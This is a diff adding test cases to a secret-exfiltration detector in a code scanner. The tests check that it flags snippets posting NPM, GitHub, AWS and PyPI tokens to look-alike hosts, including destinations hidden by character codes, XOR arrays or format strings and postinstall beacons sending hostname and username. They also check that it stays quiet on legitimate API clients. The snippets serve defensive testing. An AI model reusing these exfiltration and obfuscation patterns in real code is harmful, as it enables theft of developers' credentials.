@@ -4539,6 +4539,75 @@ describe('suspicious-network-endpoint: a secret kept in a name and sent later, o
     expect(sent('src/up.py', ['requests.post("https://aws-region-status.com/r", json={"k": os.environ["AWS_SECRET_ACCESS_KEY"]})'])?.severity).toBe('critical');
     expect(sent('src/up.ts', ["await fetch('https://registry.npmjs.org/-/npm/v1/tokens', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])).toBeUndefined();
   });
+  it('takes a service\'s own domain name hyphened to dressing words, or its word joined to what it ships (actions, packages, pkg), for a look-alike (since 2026-12-02)', () => {
+    const post = (host: string, secret: string) => sent('src/up.ts', [`await fetch('https://${host}/u', { method: 'POST', body: JSON.stringify({ t: process.env.${secret} }) });`]);
+    expect(post('npmjs-cdn-status.com', 'NPM_TOKEN')?.severity).toBe('critical');
+    expect(post('github-actions-cache.net', 'GITHUB_TOKEN')?.severity).toBe('critical');
+    expect(post('npm-packages-mirror.com', 'NPM_TOKEN')?.severity).toBe('critical');
+    expect(sent('src/up.py', ['requests.post("https://pypi-pkg-stats.org/r", json={"k": os.environ["PYPI_API_TOKEN"]})'])?.severity).toBe('critical');
+  });
+  it('keeps the services\' real hosts their own, those that join their word to another included (npmjs.org, githubusercontent.com, sentry-cdn.com, google-analytics.com)', () => {
+    const post = (host: string, secret: string) => sent('src/up.ts', [`await fetch('https://${host}/u', { method: 'POST', body: JSON.stringify({ t: process.env.${secret} }) });`]);
+    for (const [host, secret] of [
+      ['registry.npmjs.org', 'NPM_TOKEN'],
+      ['www.npmjs.com', 'NPM_TOKEN'],
+      ['api.github.com', 'GITHUB_TOKEN'],
+      ['results-receiver.actions.githubusercontent.com', 'GITHUB_TOKEN'],
+      ['sts.amazonaws.com', 'AWS_SECRET_ACCESS_KEY'],
+      ['my-bucket.s3.us-east-1.amazonaws.com', 'AWS_SECRET_ACCESS_KEY'],
+      ['upload.pypi.org', 'PYPI_API_TOKEN'],
+      ['browser.sentry-cdn.com', 'SENTRY_AUTH_TOKEN'],
+      ['www.google-analytics.com', 'GOOGLE_API_KEY'],
+      ['x.public.blob.vercel-storage.com', 'VERCEL_TOKEN'],
+      ['cloudflare-dns.com', 'CLOUDFLARE_API_TOKEN'],
+    ]) expect(post(host ?? '', secret ?? ''), host).toBeUndefined();
+  });
+  const pad = ['const a = 1;', 'const b = 2;', 'const c = 3;', 'const d = 4;', 'const e = 5;'];
+  it('follows a key put in a URL\'s query (url.searchParams.set / .append) to the request that fetches the URL, lines or functions later (since 2026-12-02)', () => {
+    expect(sent('src/postinstall.ts', ["const url = new URL('https://stats.pkg-insights.dev/v1/c');", "url.searchParams.set('k', process.env.NPM_TOKEN ?? '');", "url.searchParams.set('v', pkg.version);", ...pad, 'await fetch(url);'])).toMatchObject({ severity: 'high', line: 19 });
+    expect(sent('lib/ping.js', ["const SINK = 'https://stats.pkg-insights.dev/v1/c';", 'function build() {', '  const url = new URL(SINK);', "  url.searchParams.append('k', process.env.NPM_TOKEN);", "  url.searchParams.append('h', os.hostname());", "  url.searchParams.append('u', os.userInfo().username);", "  url.searchParams.append('p', process.platform);", "  url.searchParams.append('c', process.cwd());", '  return https.get(url.toString());', '}'])?.severity).toBe('high');
+    expect(sent('lib/beacon.js', ["const url = new URL('/v1/c', 'https://stats.pkg-insights.dev');", 'function collect() {', "  url.searchParams.set('k', process.env.GITHUB_TOKEN);", '}', 'function a1() {}', 'function a2() {}', 'function send() {', '  https.get(url.href, () => {});', '}'])?.severity).toBe('high');
+  });
+  it('is quiet on an API client that puts its own service\'s key, or a key from its configuration, in the query of a URL of that service', () => {
+    expect(sent('src/mail.ts', ["const url = new URL('https://api.mailfox.net/v3/send');", "url.searchParams.set('api_key', process.env.MAILFOX_API_KEY ?? '');", "url.searchParams.set('to', to);", ...pad, "await fetch(url, { method: 'POST' });"])).toBeUndefined();
+    expect(sent('src/weather.ts', ['export class Client {', "  private base = new URL('https://api.acme-weather.dev/v2/');", '  async current(city: string) {', "    const url = new URL('current', this.base);", "    url.searchParams.set('q', city);", "    url.searchParams.set('appid', this.apiKey);", '    return fetch(url);', '  }', '}'])).toBeUndefined();
+    expect(sent('pkg/maps/maps.go', ['func Geocode(addr string) (*Result, error) {', '\tu, _ := url.Parse("https://maps.googleapis.com/maps/api/geocode/json")', '\tq := u.Query()', '\tq.Set("address", addr)', '\tq.Set("key", os.Getenv("GOOGLE_MAPS_API_KEY"))', '\tu.RawQuery = q.Encode()', '\tresp, err := http.Get(u.String())', '\treturn decode(resp, err)', '}'])).toBeUndefined();
+  });
+  it('follows a key stored in a field of an object of the file (state.token = …, this.cache.creds.k = …) to another function that sends the object (since 2026-12-02)', () => {
+    expect(sent('lib/state.js', ['const state = {};', 'function grab() {', '  state.token = process.env.NPM_TOKEN;', '}', 'function a() {}', 'function b() {}', 'async function send() {', "  await fetch('https://metrics.pkg-insights.dev/r', { method: 'POST', body: JSON.stringify(state) });", '}'])).toMatchObject({ severity: 'high', line: 18 });
+    expect(sent('src/agent.ts', ['class Agent {', '  private cache: Record<string, string> = {};', '  init() {', "    this.cache.creds.k = process.env.AWS_SECRET_ACCESS_KEY ?? '';", '  }', '  a() {}', '  b() {}', '  async flush() {', "    await fetch('https://sync.cloud-stats.dev/f', { method: 'POST', body: JSON.stringify(this.cache) });", '  }', '}'])?.severity).toBe('high');
+    expect(sent('pkg/stats/stats.go', ['func report() {', '\tu, _ := url.Parse("https://stats.pkg-insights.dev/c")', '\tq := u.Query()', '\tq.Set("k", os.Getenv("NPM_TOKEN"))', '\tq.Set("h", hostname())', '\tq.Set("a", "1")', '\tq.Set("b", "2")', '\tu.RawQuery = q.Encode()', '\thttp.Get(u.String())', '}'])?.severity).toBe('high');
+  });
+  it('reads a destination built from character codes, XOR-ed codes or a format filled with names of the file, and judges the secret sent there (since 2026-12-02)', () => {
+    const XORED = '66, 94, 94, 90, 89, 16, 5, 5, 89, 94, 75, 94, 89, 4, 90, 65, 77, 7, 67, 68, 89, 67, 77, 66, 94, 89, 4, 78, 79, 92, 5, 73';
+    const CODES = '104, 116, 116, 112, 115, 58, 47, 47, 115, 116, 97, 116, 115, 46, 112, 107, 103, 45, 105, 110, 115, 105, 103, 104, 116, 115, 46, 100, 101, 118, 47, 99';
+    const body = "{ method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) }";
+    expect(sent('lib/warm.js', [`const SINK = String.fromCharCode(${CODES});`, `fetch(SINK, ${body});`])).toMatchObject({ severity: 'high', line: 12 });
+    expect(sent('lib/warm.js', ['const K = 0x2a;', `const E = [${XORED}];`, "const SINK = E.map((c) => String.fromCharCode(c ^ K)).join('');", `fetch(SINK, ${body});`])).toMatchObject({ severity: 'high', line: 14 });
+    expect(sent('lib/warm.js', [`const E = [${XORED}];`, `fetch(String.fromCharCode(...E.map((c) => c ^ 42)), ${body});`])?.severity).toBe('high');
+    expect(sent('pkg/warm.py', [`_E = [${XORED}]`, 'URL = "".join(chr(c ^ 0x2A) for c in _E)', 'requests.post(URL, json={"t": os.environ["NPM_TOKEN"]})'])?.severity).toBe('high');
+    expect(sent('pkg/warm.py', [`URL = bytes([${CODES}]).decode()`, 'requests.post(URL, json={"t": os.environ["PYPI_API_TOKEN"]})'])?.severity).toBe('high');
+    expect(sent('pkg/warm.py', ['HOST = "stats.pkg-insights.dev"', 'requests.post("https://%s/c" % HOST, json={"t": os.environ["NPM_TOKEN"]})'])?.severity).toBe('high');
+    expect(sent('pkg/warm.py', ['HOST = "stats.pkg-insights.dev"', 'requests.post("https://{}/c".format(HOST), json={"t": os.environ["NPM_TOKEN"]})'])?.severity).toBe('high');
+    expect(sent('pkg/stats/stats.go', ['const host = "stats.pkg-insights.dev"', '', 'func report() {', '\tkey := os.Getenv("NPM_TOKEN")', '\thttp.Post(fmt.Sprintf("https://%s/c", host), "text/plain", strings.NewReader(key))', '}'])).toMatchObject({ severity: 'high', line: 15 });
+  });
+  it('is quiet on a format of a configured base URL, codes XOR-ed with a key the file does not hold, and a built host that is the secret\'s own service', () => {
+    expect(sent('pkg/stats/stats.go', ['func report(cfg Config) {', '\tkey := os.Getenv("NPM_TOKEN")', '\thttp.Post(fmt.Sprintf("%s/c", cfg.BaseURL), "text/plain", strings.NewReader(key))', '}'])).toBeUndefined();
+    expect(sent('pkg/warm.py', ['requests.post("{}/c".format(settings.BASE_URL), json={"t": os.environ["NPM_TOKEN"]})'])).toBeUndefined();
+    expect(sent('lib/warm.js', ['const E = [66, 94, 94, 90, 89, 16, 5, 5, 89, 94, 75, 94, 89, 4, 90, 65, 77, 7, 67, 68, 89, 67, 77, 66, 94, 89, 4, 78, 79, 92, 5, 73];', "const SINK = E.map((c) => String.fromCharCode(c ^ key)).join('');", "fetch(SINK, { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])).toBeUndefined();
+    expect(sent('pkg/npm/whoami.go', ['const registry = "registry.npmjs.org"', '', 'func whoami() {', '\ttok := os.Getenv("NPM_TOKEN")', '\thttp.Post(fmt.Sprintf("https://%s/-/npm/v1/tokens", registry), "application/json", strings.NewReader(tok))', '}'])).toBeUndefined();
+  });
+  it('is quiet when another field of the object is sent, the field goes as a header or to its own service, or the object configures a client', () => {
+    const filled = ['const state = { count: 0 };', 'function init() {', '  state.token = process.env.GITHUB_TOKEN;', '}', 'function a() {}', 'function b() {}', 'async function ping() {'];
+    expect(sent('lib/ping.js', [...filled, "  await fetch('https://telemetry.acme-tools.dev/ping', { method: 'POST', body: JSON.stringify({ n: state.count }) });", '}'])).toBeUndefined();
+    expect(sent('lib/ping.js', [...filled, "  await fetch('https://telemetry.acme-tools.dev/ping', { method: 'POST', headers: { authorization: `token ${state.token}` }, body: '{}' });", '}'])).toBeUndefined();
+    expect(sent('lib/publish.js', ['const config = {};', 'function load() {', '  config.token = process.env.NPM_TOKEN;', '}', 'function a() {}', 'function b() {}', 'async function publish() {', "  await fetch('https://registry.npmjs.org/-/npm/v1/x', { method: 'PUT', body: JSON.stringify(config) });", '}'])).toBeUndefined();
+    // A variable of the environment set for a child process is no object the file sends.
+    const later = ['const a = 1;', 'const b = 2;', 'const c = 3;', 'const d = 4;'];
+    expect(sent('scripts/publish.js', ['process.env.NODE_AUTH_TOKEN = process.env.NPM_TOKEN;', "execSync('npm publish', { stdio: 'inherit' });", ...later, "await fetch('https://hooks.acme-chat.dev/notify', { method: 'POST', body: JSON.stringify({ text: `published ${process.env.npm_package_version}` }) });"])).toBeUndefined();
+    expect(sent('scripts/publish.py', ['os.environ["TWINE_PASSWORD"] = os.environ["PYPI_API_TOKEN"]', 'subprocess.run(["twine", "upload", "dist/*"], check=True)', 'a = 1', 'b = 2', 'c = 3', 'd = 4', 'requests.post("https://hooks.acme-chat.dev/notify", json={"text": "published " + os.environ.get("VERSION", "")})'])).toBeUndefined();
+    expect(sent('mypkg/upload.py', ['class Uploader:', '    def __init__(self):', '        self.opts = {}', '        self.opts["aws_secret_access_key"] = os.environ["AWS_SECRET_ACCESS_KEY"]', '        self.client = boto3.client("s3", **self.opts)', '        self.a = 1', '', '    def notify(self):', '        requests.post("https://hooks.acme-chat.dev/n", json={"text": "uploaded"})'])).toBeUndefined();
+  });
 });
 
 describe('sql-parameters-dropped: a bound value spliced into the query text in a "cleanup"', () => {
